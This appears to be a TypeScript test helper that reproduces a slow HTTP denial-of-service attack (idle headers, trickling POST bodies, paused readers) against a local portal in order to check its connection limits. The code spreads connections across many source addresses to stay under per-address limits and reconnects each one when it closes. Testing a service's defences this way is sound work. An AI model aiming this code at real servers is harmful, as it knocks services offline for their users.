import { connect, type Socket } from 'node:net';

export interface Target {
  port: number;
  /** Request head of a download whose response is never read. */
  download: string;
}

const idleHeaders = 2_000;
const tricklingBodies = 200;
const slowReaders = 4; // limit of downloads per session (security 2.4)

type OnConnect = (socket: Socket) => void;

const head = 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ';
const body =
  'POST /api/auth/doctor/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n';

/**
 * Holds connections as an attacker does (security 6, R11). Until stopped, it reopens each one a second after it closes.
 */
export class Attack {
  readonly #target: Target;
  readonly #sockets = new Set<Socket>();
  readonly #trickling = new Set<Socket>();
  readonly #drip: NodeJS.Timeout;
  #isOn = true;
  #lostCount = 0;

  /** Connects from one address, or from so many that each stays below the portal's connection limit. */
  constructor(target: Target, from: 'one' | 'many') {
    this.#target = target;
    const address = (index: number) => (from === 'one' ? '127.0.0.60' : `127.0.1.${1 + Math.floor(index / 50)}`);
    for (let index = 0; index < idleHeaders; index += 1) this.#connect(address(index), (socket) => socket.write(head));
    for (let index = 0; index < tricklingBodies; index += 1)
      this.#connect(address(idleHeaders + index), (socket) => {
        socket.write(body);
        this.#trickling.add(socket);
      });
    for (let index = 0; index < slowReaders; index += 1)
      this.#connect('127.0.0.61', (socket) => socket.pause().write(this.#target.download));
    this.#drip = setInterval(() => {
      for (const socket of this.#trickling) if (socket.writable) socket.write(' ');
    }, 1_000);
  }

  /** Number of connections open now, and of those closed by the portal so far. */
  get state(): { openCount: number; lostCount: number } {
    return {
      openCount: [...this.#sockets].filter(({ readyState }) => readyState === 'open').length,
      lostCount: this.#lostCount,
    };
  }

  /** Stops reconnecting and closes all connections immediately. */
  stop(): void {
    this.#isOn = false;
    clearInterval(this.#drip);
    for (const socket of this.#sockets) socket.destroy();
  }

  /** Stops reconnecting and resolves once the portal has closed all connections. */
  async waitUntilClosed(): Promise<void> {
    this.#isOn = false;
    // A paused socket emits no `close`, so resume it.
    const ends = [...this.#sockets].map((socket) => new Promise((resolve) => socket.resume().once('close', resolve)));
    await Promise.all(ends);
    clearInterval(this.#drip);
  }

  #connect(localAddress: string, onConnect: OnConnect): void {
    const socket = connect({ host: '127.0.0.1', port: this.#target.port, localAddress });
    this.#sockets.add(socket);
    socket.on('error', () => undefined).on('connect', () => onConnect(socket));
    socket.on('close', () => {
      this.#lostCount += 1;
      this.#sockets.delete(socket);
      this.#trickling.delete(socket);
      if (this.#isOn) setTimeout(() => this.#isOn && this.#connect(localAddress, onConnect), 1_000);
    });
    socket.resume();
  }
}
